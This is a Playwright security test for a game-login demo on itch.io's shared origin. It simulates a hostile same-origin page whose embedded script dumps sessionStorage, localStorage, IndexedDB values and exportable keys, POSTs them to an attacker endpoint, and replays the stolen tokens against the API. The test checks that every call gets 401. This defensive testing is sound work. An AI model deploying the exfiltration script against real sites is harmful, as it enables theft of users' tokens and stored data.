// itch.io serves every HTML5 game from one origin, so every other game a player opens can read
// what ours stored. The attack, automated: the demo's game logs in (gameSession(), a game token
// bound to a DPoP key), then a hostile page on the game's origin, opened later in the same tab,
// copies everything the game stored (sessionStorage, localStorage, every IndexedDB value it can
// read, and the key in any form it can export) and sends it to its own server, which then calls
// the site's API and renew with all of it: every call is 401, and the key's private half is not
// extractable.
import { expect, test } from '@playwright/test';
import { importJWK, type JWK } from 'jose';
import { DEFAULT_SEED_CREDENTIALS as C } from '../../src/emulator/index.js';
import { startDemo, type RunningDemo } from '../../demo/serve.js';
import { dpopKey, dpopProof, serverNonce, type DpopSigner } from '../support/dpop.js';

let demo: RunningDemo;
test.beforeAll(async () => {
  demo = await startDemo({ port: 0, logLevel: 'silent' });
});
test.afterAll(async () => {
  await demo?.close();
});

/** What the hostile page found on the game's origin. */
interface Loot {
  sessionStorage: Record<string, string>;
  localStorage: Record<string, string>;
  /** Every IndexedDB value, as JSON (a CryptoKey serializes as `{}`). */
  indexedDb: string[];
  /** The keys found in IndexedDB: whether extractable, and what could be exported of them. */
  keys: { type: string; extractable: boolean; jwk?: JsonWebKey | undefined; refused?: string | undefined }[];
}

/** The hostile page's script: copies everything, then posts it to the attacker's server. */
const HOSTILE = (attacker: string) => `<!doctype html><title>Another game</title><script type="module">
const loot = { sessionStorage: { ...sessionStorage }, localStorage: { ...localStorage }, indexedDb: [], keys: [] };
const request = (r) => new Promise((resolve, reject) => { r.onsuccess = () => resolve(r.result); r.onerror = () => reject(r.error); });
for (const { name } of await indexedDB.databases()) {
  const db = await request(indexedDB.open(name));
  for (const store of db.objectStoreNames) {
    for (const value of await request(db.transaction(store).objectStore(store).getAll())) {
      loot.indexedDb.push(JSON.stringify(value));
      for (const key of [value, value?.privateKey, value?.publicKey]) {
        if (!(key instanceof CryptoKey)) continue;
        const found = { type: key.type, extractable: key.extractable };
        try { found.jwk = await crypto.subtle.exportKey('jwk', key); } catch (error) { found.refused = error.name; }
        loot.keys.push(found);
      }
    }
  }
}
await fetch(${JSON.stringify(attacker)}, { method: 'POST', body: JSON.stringify(loot) });
document.title = 'sent';
</script>`;

/**
 * The attacker's server: with every JWS-shaped string of the loot it received, it calls the site's
 * API (GET and PUT) and renew: as Bearer, as DPoP without a proof, with a proof by its own key,
 * and with a proof by any private key it was sent. The statuses of all those calls.
 */
async function attack(loot: Loot, site: string, origin: string): Promise<{ what: string; status: number }[]> {
  const everything = JSON.stringify(loot);
  const tokens = [...new Set(everything.match(/[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/g) ?? [])];
  const signers: ({ name: string } & DpopSigner)[] = [];
  signers.push({ name: 'its own key', ...(await dpopKey()) });
  for (const stolen of loot.keys) {
    if (stolen.type !== 'private' || stolen.jwk === undefined) continue;
    const { d: _d, key_ops: _ops, ext: _ext, ...publicJwk } = stolen.jwk;
    signers.push({ name: 'the stolen key', jwk: publicJwk as JWK, privateKey: await importJWK(stolen.jwk as JWK, 'ES256') });
  }
  const calls: { what: string; status: number }[] = [];
  // The site's DPoP nonce, which it gives anyone: refusals below are for the key, not the nonce.
  const nonce = await serverNonce(`${site}/api/game/progress`, origin);
  for (const token of tokens) {
    for (const [method, path] of [
      ['GET', '/api/game/progress'],
      ['PUT', '/api/game/progress'],
      ['POST', '/api/game/renew'],
    ] as const) {
      const url = `${site}${path}`;
      const ways: [string, Record<string, string>][] = [
        ['Bearer', { Authorization: `Bearer ${token}` }],
        ['DPoP without a proof', { Authorization: `DPoP ${token}` }],
      ];
      for (const signer of signers)
        ways.push([
          `DPoP, proof by ${signer.name}`,
          { Authorization: `DPoP ${token}`, DPoP: await dpopProof(signer, method, url, { token, nonce }) },
        ]);
      for (const [way, headers] of ways) {
        const answer = await fetch(url, {
          method,
          headers: { Origin: origin, 'Content-Type': 'application/json', ...headers },
          body: method === 'PUT' ? JSON.stringify({ progress: { stars: 0 } }) : null,
        });
        calls.push({ what: `${method} ${path} ${way}`, status: answer.status });
      }
    }
  }
  return calls;
}

test('a hostile page on the game origin copies all the game stored; its server gets 401 from every API call and renew with it', async ({
  page,
  context,
}) => {
  // The game, on its origin, logs in and saves.
  await page.goto(`${demo.gameUrl}/`);
  await expect(page.locator('.game')).toHaveAttribute('data-ready', 'true');
  await page.getByRole('button', { name: 'Catch a falling star' }).click();
  const popupOpened = context.waitForEvent('page');
  await page.getByRole('button', { name: 'Log in to save' }).click();
  const popup = await popupOpened;
  await popup.getByLabel('Log in as').selectOption(String(C.users.gamer));
  await popup.getByRole('button', { name: 'Approve' }).click();
  await expect(page.locator('[data-player]')).toHaveText('Mossy Pine', { timeout: 15_000 });
  await page.getByRole('button', { name: 'Save progress' }).click();
  await expect(page.getByRole('status')).toHaveText('Saved: 1 stars.');

  // Another game on the same origin, later in the same tab.
  // (Its server's address is on the game's origin here: Chromium's Local Network Access keeps a
  // page that page.route serves from reaching loopback. What arrives there goes to the attacker.)
  let sent: (loot: Loot) => void;
  const received = new Promise<Loot>((resolve) => (sent = resolve));
  await page.route(`${demo.gameUrl}/another-game/**`, async (route) => {
    if (route.request().method() !== 'POST')
      return route.fulfill({ contentType: 'text/html', body: HOSTILE(`${demo.gameUrl}/another-game/loot`) });
    sent(JSON.parse(route.request().postData()!) as Loot);
    return route.fulfill({ status: 204 });
  });
  await page.goto(`${demo.gameUrl}/another-game/`);
  const loot = await received;
  const calls = await attack(loot, demo.url, demo.gameUrl);

  // It did take the game's token (the attack is real), and the key, but not its private half.
  expect(Object.keys(loot.sessionStorage).some((name) => name.startsWith('itch-oauth-game-token'))).toBe(true);
  expect(loot.keys.map(({ type, extractable }) => `${type} ${extractable}`).sort()).toEqual(['private false', 'public true']);
  expect(loot.keys.find((key) => key.type === 'private')!.refused).toBe('InvalidAccessError');
  expect(calls.length).toBeGreaterThanOrEqual(3 * 3);
  for (const call of calls) expect(call, call.what).toEqual({ what: call.what, status: 401 });
});
